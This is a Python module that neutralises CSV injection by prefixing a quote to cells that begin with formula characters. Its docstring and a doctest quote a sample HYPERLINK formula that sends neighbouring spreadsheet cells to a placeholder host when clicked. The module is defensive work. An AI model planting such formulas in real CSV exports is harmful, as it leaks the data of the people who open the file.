"""CSV files a spreadsheet opens safely: no cell written from what a person typed can run as a formula.

A spreadsheet treats a cell that begins with ``=``, ``+``, ``-`` or ``@`` (and, in some programs, a
tab or a carriage return) as a formula: ``=HYPERLINK("http://...?"&A1,"Oscar")`` typed as a name
sends the neighbouring cells away when the instructor clicks it. OWASP's rule for CSV injection is
to put a single quote in front of such a cell, which spreadsheets show as text. Plain numbers
(``-1.5``) are left alone, so scores stay numbers. Every CSV the kit writes from user input goes
through :func:`csv_text`; a file read back goes through :func:`restore`.
"""

from __future__ import annotations

import csv
import io
import re
from typing import Iterable, Mapping, Sequence

#: what a cell may not begin with (OWASP, "CSV Injection")
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[-+]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][-+]?\d+)?")


def neutralise(value) -> str:
    """``value`` as a CSV cell that no spreadsheet runs: a quote before a leading formula character.

    >>> neutralise('=HYPERLINK("http://x?"&A1,"Oscar")')
    '\\'=HYPERLINK("http://x?"&A1,"Oscar")'
    >>> neutralise("-2.5"), neutralise("@SUM(A1)"), neutralise("Ada"), neutralise(3)
    ('-2.5', "'@SUM(A1)", 'Ada', '3')
    """
    text = "" if value is None else str(value)
    if text.startswith(TRIGGERS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def restore(text: str) -> str:
    """A cell as it was typed, from a file :func:`neutralise` wrote (its guarding quote removed)."""
    if text.startswith("'") and text[1:].startswith(TRIGGERS):
        return text[1:]
    return text


def csv_text(header: Sequence[str], rows: Iterable[Sequence | Mapping]) -> str:
    """A whole CSV file (``\\n`` line ends): the header, then each row (a list, or a dict keyed by the header)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow([neutralise(h) for h in header])
    for row in rows:
        cells = [row.get(h, "") for h in header] if isinstance(row, Mapping) else row
        writer.writerow([neutralise(c) for c in cells])
    return buffer.getvalue()
